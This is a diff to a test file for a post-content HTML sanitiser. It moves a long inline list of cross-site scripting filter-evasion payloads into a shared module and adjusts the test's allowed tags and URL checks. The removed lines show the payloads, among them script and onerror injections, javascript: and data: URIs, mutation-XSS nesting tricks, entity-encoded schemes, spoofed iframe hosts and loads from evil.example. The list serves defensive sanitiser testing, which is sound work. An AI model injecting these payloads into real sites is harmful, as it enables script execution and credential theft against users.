@@ -1,3 +1,4 @@
+import { hostileTexts } from '../../test/hostile-html.js';
 import { sanitisePostContent } from './post-content.js';
 
 /** What CKEditor 5 writes for everything the toolbar offers (F130, F131, C37c). */
@@ -70,102 +71,22 @@ describe('sanitisePostContent keeps what the editor makes (C37c, F130, F131)', (
   );
 });
 
-/** One vector a category of the OWASP cheat sheet on filter evasion, and what is known to have fooled sanitisers. */
-const attacks = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</script>',
-  '<<script>alert(1);//<</script>',
-  '<script/xss src="https://evil.example/x.js"></script>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="/a.jpg"onerror="alert(1)">',
-  '<img """><script>alert(1)</script>">',
-  '<img src=`javascript:alert(1)`>',
-  '<img src=javascript:alert(1)>',
-  '<img src="jav\tascript:alert(1)">',
-  '<img src="jav&#x0A;ascript:alert(1)">',
-  '<img src=" &#14; javascript:alert(1)">',
-  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
-  '<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>',
-  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
-  '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
-  '<img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="java\0script:alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href="javascript&colon;alert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-  '<a href="//evil.example">x</a><a href="\\\\evil.example">x</a>',
-  '<a onmouseover="alert(1)" href="/x">x</a>',
-  '<a href="/x" target="_top" rel="opener">x</a>',
-  '<svg onload=alert(1)><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /></svg>',
-  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<template><script>alert(1)</script></template>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src="https://evil.example/embed"></iframe>',
-  '<iframe src="https://www.youtube.com.evil.example/embed/a"></iframe>',
-  '<iframe src="https://www.youtube.com@evil.example/"></iframe>',
-  '<iframe src="http://www.youtube.com/embed/a"></iframe>',
-  '<iframe src="/dashboard"></iframe>',
-  '<iframe src="https://www.youtube.com/embed/a" onload="alert(1)" srcdoc="<script>alert(1)</script>"><img src=x onerror=alert(1)></iframe>',
-  '<frameset><frame src="javascript:alert(1)"></frameset>',
-  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
-  '<applet code="x"></applet>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<p style="width:expression(alert(1))">x</p>',
-  '<p style="width:10px;/*;position:fixed;*/inset:0">x</p>',
-  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
-  '<div style="position:absolute">x</div>',
-  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
-  '<input type="image" src="javascript:alert(1)" autofocus onfocus=alert(1)>',
-  '<body onload=alert(1) background="javascript:alert(1)">',
-  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<p onclick=alert(1) id="x" name="y" data-x="z" contenteditable>x</p>',
-  '<p class="fixed inset-0 modal">x</p>',
-  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<?xml version="1.0"?><?php echo 1 ?>',
-  '<p/onclick=alert(1)//',
-  '</p><p onclick="alert(1)"',
-  '<a href="/x\u201d onclick=alert(1)">x</a>',
-  '<img src="/a.jpg">&#824; onerror=alert(1) <b>x</b>',
-  '<p>&#824; onclick=alert(1) <b>x</b></p>',
-  '<p>\u0338 onclick=alert(1) <b>x</b></p>',
-  '<img src="/a.jpg" alt="&quot; onerror=&quot;alert(1)">',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-];
-
 /** What a browser would find in the output: a tag ends at the first `>` outside its quoted values. */
 const tag = /<(\/?)([^\s/>]+)((?:[^>"]|"[^"]*")*)>/g;
 const attribute = /\s([^\s=]+)(?:="([^"]*)")?/g;
 
 describe('sanitisePostContent leaves nothing that acts (C37c)', () => {
-  it.each(attacks)('%s', (html) => {
+  it.each(hostileTexts)('%s', (html) => {
     const clean = sanitisePostContent(html);
     expect(clean).toBe(clean.normalize('NFC'));
     for (const [, , name, attributes] of clean.matchAll(tag)) {
-      expect(name).toMatch(/^(p|div|a|b|img|iframe|table)$/);
+      expect(name).toMatch(/^(p|div|a|b|br|ul|li|img|iframe|table|tbody|tr|td)$/);
       for (const [, attributeName, value = ''] of attributes!.matchAll(attribute)) {
         expect(attributeName).toMatch(/^(href|src|alt|style|rel|target)$/);
         if (attributeName === 'href' || attributeName === 'src')
-          expect(value).toMatch(/^(\/(?![/\\])|[a-z]+\.|x|`|https:\/\/www\.youtube\.com\/embed\/a$)/);
+          expect(value).toMatch(
+            /^((?![/\\]{2}|[^a-z]*[a-z][\w+.-]*:|.*&#)|`|https:\/\/www\.youtube\.com\/embed\/a$)/,
+          );
         if (attributeName === 'style') expect(value).not.toMatch(/fixed|absolute|url|expression|inset|\*/);
       }
     }
@@ -195,7 +116,7 @@ describe('sanitisePostContent leaves nothing that acts (C37c)', () => {
 });
 
 describe('sanitisePostContent changes nothing the second time (C37c)', () => {
-  const all = [...Object.values(editorHtml), ...attacks];
+  const all = [...Object.values(editorHtml), ...hostileTexts];
 
   it.each(all)('%s', (html) => {
     const clean = sanitisePostContent(html);
